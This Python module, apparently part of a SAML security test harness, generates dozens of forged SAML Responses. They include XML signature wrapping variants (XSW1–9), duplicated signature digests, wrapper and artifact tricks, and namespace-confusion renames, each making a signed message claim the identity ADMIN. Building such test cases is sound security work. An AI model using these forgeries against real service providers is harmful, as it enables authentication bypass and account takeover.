"""Messages put together from genuinely signed parts: XML signature wrapping and its relatives.

Each attack takes the tree of a good signed Response and gives back another tree (or changes it) in which
someone calls themselves `ADMIN`. How they are named follows Somorovsky et al., "On Breaking SAML" (2012).
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

from lxml import etree

from .message_parts import ADMIN, Genuine, add_extensions, digest_of, put_in, wrapped
from .saml_names import DS, MD, SAML, SAMLP, tag

Attack = Callable[[Genuine], etree._Element]

# Where the genuine Assertion is put while a forged one stands in its place: (response, forged, genuine)
Hide = Callable[[etree._Element, etree._Element, etree._Element], object]


def _before_statements(forged: etree._Element, element: etree._Element) -> None:
    forged.find(tag("saml:AuthnStatement")).addprevious(element)


HIDING_PLACES: dict[str, Hide] = {
    "Extensions": lambda response, forged, genuine: add_extensions(response, genuine),
    "Extensions_in_foreign": lambda response, forged, genuine: add_extensions(response, wrapped("{urn:x}x", genuine)),
    "EntityDescriptor": lambda response, forged, genuine: add_extensions(
        response, wrapped(f"{{{MD}}}EntityDescriptor", genuine)
    ),
    "StatusDetail": lambda response, forged, genuine: put_in(response, "samlp:Status/samlp:StatusDetail", genuine),
    "StatusMessage": lambda response, forged, genuine: put_in(response, "samlp:Status/samlp:StatusMessage", genuine),
    "StatusCode": lambda response, forged, genuine: put_in(response, "samlp:Status/samlp:StatusCode", genuine),
    "ResponseIssuer": lambda response, forged, genuine: put_in(response, "saml:Issuer", genuine),
    "EncryptedAssertion": lambda response, forged, genuine: put_in(response, "saml:EncryptedAssertion", genuine),
    "Response_in_Response": lambda response, forged, genuine: response.append(
        wrapped(tag("samlp:Response"), genuine)
    ),
    "Foreign_in_Response": lambda response, forged, genuine: response.append(wrapped("{urn:x}x", genuine)),
    "Foreign_first": lambda response, forged, genuine: response.insert(0, wrapped("{urn:x}x", genuine)),
    "Object_in_Response": lambda response, forged, genuine: response.append(wrapped(f"{{{DS}}}Object", genuine)),
    "Advice": lambda response, forged, genuine: _before_statements(forged, wrapped(tag("saml:Advice"), genuine)),
    "Advice_in_foreign": lambda response, forged, genuine: _before_statements(
        forged, wrapped(tag("saml:Advice"), wrapped("{urn:x}x", genuine))
    ),
    "SubjectConfirmationData": lambda response, forged, genuine: put_in(
        forged, "saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData", genuine
    ),
    "SubjectConfirmation": lambda response, forged, genuine: put_in(
        forged, "saml:Subject/saml:SubjectConfirmation", genuine
    ),
    "NameID": lambda response, forged, genuine: put_in(forged, "saml:Subject/saml:NameID", genuine),
    "Condition": lambda response, forged, genuine: put_in(forged, "saml:Conditions/saml:Condition", genuine),
    "Audience": lambda response, forged, genuine: put_in(
        forged, "saml:Conditions/saml:AudienceRestriction/saml:Audience", genuine
    ),
    "AuthnContextDecl": lambda response, forged, genuine: put_in(
        forged, "saml:AuthnStatement/saml:AuthnContext/saml:AuthnContextDecl", genuine
    ),
    "AttributeValue": lambda response, forged, genuine: put_in(
        forged, "saml:AttributeStatement/saml:Attribute/saml:AttributeValue", genuine
    ),
    "AttributeStatement": lambda response, forged, genuine: put_in(forged, "saml:AttributeStatement", genuine),
    "AuthzDecisionStatement": lambda response, forged, genuine: put_in(
        forged, "saml:AuthzDecisionStatement/saml:Evidence", genuine
    ),
    "BaseID": lambda response, forged, genuine: put_in(forged, "saml:Subject/saml:BaseID", genuine),
    "EncryptedID": lambda response, forged, genuine: put_in(forged, "saml:Subject/saml:EncryptedID", genuine),
    "EncryptedAttribute": lambda response, forged, genuine: put_in(
        forged, "saml:AttributeStatement/saml:EncryptedAttribute", genuine
    ),
    "Statement": lambda response, forged, genuine: put_in(forged, "saml:Statement", genuine),
    "ProxyRestriction": lambda response, forged, genuine: put_in(
        forged, "saml:Conditions/saml:ProxyRestriction", genuine
    ),
    "Subject": lambda response, forged, genuine: put_in(forged, "saml:Subject", genuine),
    "AssertionIssuer": lambda response, forged, genuine: put_in(forged, "saml:Issuer", genuine),
}

# The same inside of the forged Assertion's Signature.
SIGNATURE_PLACES = {
    "KeyInfo": "ds:KeyInfo",
    "X509Data": "ds:KeyInfo/ds:X509Data",
    "SPKIData": "ds:KeyInfo/ds:SPKIData",
    "KeyValue": "ds:KeyInfo/ds:KeyValue",
    "RetrievalMethod": "ds:KeyInfo/ds:RetrievalMethod",
    "SignatureProperty": "ds:Object/ds:SignatureProperties/ds:SignatureProperty",
    "Manifest": "ds:Object/ds:Manifest",
    "SignedInfo": "ds:SignedInfo",
    "SignatureValue": "ds:SignatureValue",
    "CanonicalizationMethod": "ds:SignedInfo/ds:CanonicalizationMethod",
    "SignatureMethod": "ds:SignedInfo/ds:SignatureMethod",
    "Reference": "ds:SignedInfo/ds:Reference",
    "Transform": "ds:SignedInfo/ds:Reference/ds:Transforms/ds:Transform",
    "DigestMethod": "ds:SignedInfo/ds:Reference/ds:DigestMethod",
    "DigestValue": "ds:SignedInfo/ds:Reference/ds:DigestValue",
}


def hidden(where: str, *, same_id: bool, signature: bool) -> Attack:
    """XSW-WRAP: the genuine Assertion hidden, a forged one in its place."""

    def attack(genuine: Genuine) -> etree._Element:
        forged = genuine.forged_assertion(same_id=same_id, signature=signature)
        response = genuine.response_around(forged)
        HIDING_PLACES[where](response, forged, genuine.bare_assertion() if signature else genuine.assertion())
        return response

    return attack


def hidden_in_signature(path: str) -> Attack:
    """XSW-WRAP: the genuine Assertion somewhere inside of the Signature that the forged one shows."""

    def attack(genuine: Genuine) -> etree._Element:
        forged = genuine.forged_assertion(signature=True)
        put_in(forged.find(tag("ds:Signature")), path, genuine.bare_assertion())
        return genuine.response_around(forged)

    return attack


def _in_signature(signature: etree._Element, *children: etree._Element, inside: str | None) -> etree._Element:
    holder = signature if inside is None else etree.SubElement(signature, tag(inside))
    holder.extend(children)
    return signature


def _forged_with_signature(genuine: Genuine, inside: str | None) -> etree._Element:
    forged = genuine.forged_assertion()
    forged.insert(1, _in_signature(genuine.signature(), genuine.bare_assertion(), inside=inside))
    return genuine.response_around(forged)


def _forged_response_with_signature(genuine: Genuine, inside: str | None) -> etree._Element:
    response = genuine.forged_response()
    response.insert(1, _in_signature(genuine.response_signature(), genuine.bare_response(), inside=inside))
    return response


def _original_beside_signature(genuine: Genuine) -> etree._Element:
    response = genuine.forged_response(signature=True)
    response.find(tag("ds:Signature")).addnext(genuine.bare_response())
    return response


def _moved_to_extensions_with_copy(genuine: Genuine) -> etree._Element:
    forged = genuine.forged_assertion(same_id=True)
    return add_extensions(genuine.response_around(genuine.assertion()), forged)


def _soap(body: etree._Element) -> etree._Element:
    namespace = "http://schemas.xmlsoap.org/soap/envelope/"
    return wrapped(f"{{{namespace}}}Envelope", wrapped(f"{{{namespace}}}Body", body))


def _artifact_response(genuine: Genuine) -> etree._Element:
    outer = genuine.empty_response()
    outer.tag = tag("samlp:ArtifactResponse")
    outer.append(genuine.response())
    return outer


def _around_signed_response(genuine: Genuine, *, forged: bool) -> etree._Element:
    outer = genuine.forged_response() if forged else genuine.empty_response()
    outer.append(genuine.response())
    return outer


def _renamed(path: str | None, name: str) -> Attack:
    def attack(genuine: Genuine) -> etree._Element:
        response = genuine.response()
        element = response if path is None else response.find(path)
        element.tag = name
        return response

    return attack


def _signature_root(genuine: Genuine) -> etree._Element:
    return _in_signature(genuine.response_signature(), genuine.bare_response(), inside="ds:Object")


def _with_second_digest(where: str, part: str) -> Attack:
    """XSW-SIGLOC: parts of the genuine signature once more, made for the forged content, where a search over the
    document finds them first."""

    def attack(genuine: Genuine) -> etree._Element:
        response = genuine.response()
        assertion = response.find(tag("saml:Assertion"))
        assertion.find(f"{tag('saml:Subject')}/{tag('saml:NameID')}").text = ADMIN
        copied = wrapped("x", genuine.signature())
        copied.find(f".//{tag('ds:DigestValue')}").text = digest_of(assertion)
        found = copied.find(f".//{tag(part)}")
        if where == "Extensions":
            return add_extensions(response, found)
        put_in(response, "samlp:Status/samlp:StatusDetail", found)
        return response

    return attack


def _signature_elsewhere(genuine: Genuine) -> etree._Element:
    """SAMLIFY-REF: what is signed and its Signature stand in a place of their own, complete by themselves."""
    signed = genuine.response()
    return add_extensions(genuine.forged_response(), wrapped("{urn:x}x", signed))


def _inside_of_forged(genuine: Genuine, *, same_id: bool, place: int) -> etree._Element:
    forged = genuine.forged_assertion(same_id=same_id)
    forged.insert(len(forged) if place < 0 else place, genuine.assertion())
    return genuine.response_around(forged)


def _beside_each_other(first: str) -> Attack:
    """SAMLIFY-REF: the root is neither of two Responses, one signed and one forged."""

    def attack(genuine: Genuine) -> etree._Element:
        both = [genuine.response(), genuine.forged_response()]
        return wrapped(tag("samlp:Responses"), *(both if first == "genuine" else reversed(both)))

    return attack


def _assertion_beside_response(genuine: Genuine) -> etree._Element:
    return wrapped("{urn:x}x", genuine.assertion(), genuine.forged_response(signature=True))


def _signature_renamed(name: str) -> Attack:
    def attack(genuine: Genuine) -> etree._Element:
        response = genuine.response()
        for each in list(response.iter(tag("ds:Signature"))):
            each.tag = name
        return response

    return attack


ATTACKS: dict[str, Attack] = {
    "XSW1-in_Object": lambda g: _forged_response_with_signature(g, "ds:Object"),
    "XSW1-in_Signature": lambda g: _forged_response_with_signature(g, None),
    "XSW1-in_KeyInfo": lambda g: _forged_response_with_signature(g, "ds:KeyInfo"),
    "XSW2": _original_beside_signature,
    "XSW3": lambda g: g.response_around(g.forged_assertion(), g.assertion()),
    "XSW3-same_id": lambda g: g.response_around(g.forged_assertion(same_id=True), g.assertion()),
    "XSW3-last": lambda g: g.response_around(g.assertion(), g.forged_assertion()),
    "XSW4": lambda g: _inside_of_forged(g, same_id=False, place=-1),
    "XSW4-same_id": lambda g: _inside_of_forged(g, same_id=True, place=-1),
    "XSW4-first_child": lambda g: _inside_of_forged(g, same_id=False, place=0),
    "XSW4-behind_issuer": lambda g: _inside_of_forged(g, same_id=False, place=1),
    "XSW5": lambda g: g.response_around(g.forged_assertion(signature=True), g.bare_assertion()),
    "XSW5-first": lambda g: g.response_around(g.bare_assertion(), g.forged_assertion(signature=True)),
    "XSW5-alone": lambda g: g.response_around(g.forged_assertion(same_id=True, signature=True)),
    "XSW6": lambda g: _forged_with_signature(g, None),
    "XSW7": _moved_to_extensions_with_copy,
    "XSW7-genuine_in_extensions": lambda g: add_extensions(
        g.response_around(g.forged_assertion(same_id=True)), g.assertion()
    ),
    "XSW7-bare_in_extensions": lambda g: add_extensions(g.response_around(g.assertion()), g.bare_assertion()),
    "XSW8": lambda g: _forged_with_signature(g, "ds:Object"),
    "XSW8-in_KeyInfo": lambda g: _forged_with_signature(g, "ds:KeyInfo"),
    "XSW9": hidden("Extensions", same_id=False, signature=False),
    "XSW9-same_id": hidden("Extensions", same_id=True, signature=False),
    "XSW9-with_signature": hidden("Extensions", same_id=False, signature=True),
    "XSW-forged_response": lambda g: g.forged_response(),
    "XSW-forged_response_with_signature": lambda g: g.forged_response(signature=True),
    "RESP-ONLY-SIG-moved_out": lambda g: add_extensions(g.response_around(), g.assertion()),
    "RESP-ONLY-SIG-wrapped": lambda g: _around_signed_response(g, forged=False),
    "RESP-ONLY-SIG-wrapped_beside_forged": lambda g: _around_signed_response(g, forged=True),
    **{
        f"XSW-SIGLOC-{where}-{part.partition(':')[2]}": _with_second_digest(where, part)
        for where in ("StatusDetail", "Extensions")
        for part in ("ds:SignedInfo", "ds:Reference", "ds:DigestValue", "ds:Signature")
    },
    "SAMLIFY-REF-in_extensions": _signature_elsewhere,
    "SAMLIFY-REF-genuine_first": _beside_each_other("genuine"),
    "SAMLIFY-REF-forged_first": _beside_each_other("forged"),
    "SAMLIFY-REF-assertion_beside": _assertion_beside_response,
    "ART-WRAP-artifact": _artifact_response,
    "ART-WRAP-soap": lambda g: _soap(g.response()),
    "ART-WRAP-metadata": lambda g: wrapped(f"{{{MD}}}EntityDescriptor", g.response()),
    "ART-WRAP-assertion_as_root": lambda g: g.assertion(),
    "C14N-EMPTY-signature_as_root": _signature_root,
    "NS-CONFUSION-root": _renamed(None, f"{{{SAML}}}Response"),
    "NS-CONFUSION-saml1": _renamed(None, "{urn:oasis:names:tc:SAML:1.0:protocol}Response"),
    "NS-CONFUSION-space": _renamed(None, f"{{{SAMLP} }}Response"),
    "NS-CONFUSION-case": _renamed(None, f"{{{SAMLP.upper()}}}Response"),
    "NS-CONFUSION-none": _renamed(None, "Response"),
    "NS-CONFUSION-local_case": _renamed(None, f"{{{SAMLP}}}response"),
    "NS-CONFUSION-assertion": _renamed(tag("saml:Assertion"), f"{{{SAMLP}}}Assertion"),
    "NS-CONFUSION-assertion_saml1": _renamed(
        tag("saml:Assertion"), "{urn:oasis:names:tc:SAML:1.0:assertion}Assertion"
    ),
    "NS-CONFUSION-signature_saml": _signature_renamed(f"{{{SAML}}}Signature"),
    "NS-CONFUSION-signature_slash": _signature_renamed(f"{{{DS}/}}Signature"),
    "NS-CONFUSION-signature_11": _signature_renamed("{http://www.w3.org/2009/xmldsig11#}Signature"),
    "NS-CONFUSION-signature_none": _signature_renamed("Signature"),
    "NS-CONFUSION-status": _renamed(tag("samlp:Status"), f"{{{SAML}}}Status"),
    "NS-CONFUSION-logout": _renamed(None, f"{{{SAMLP}}}LogoutResponse"),
}


def all_attacks() -> Iterator[tuple[str, Attack]]:
    """Every attack with its name."""
    yield from ATTACKS.items()
    for name, path in SIGNATURE_PLACES.items():
        yield f"XSW-WRAP-Signature-{name}", hidden_in_signature(path)
    for where in HIDING_PLACES:
        for same_id in (False, True):
            for signature in (False, True):
                kind = "XSW-EXT" if where.startswith("Extensions") else "XSW-WRAP"
                ids = "same_id" if same_id else "other_id"
                name = f"{kind}-{where}-{ids}" + ("-with_signature" if signature else "")
                yield name, hidden(where, same_id=same_id, signature=signature)
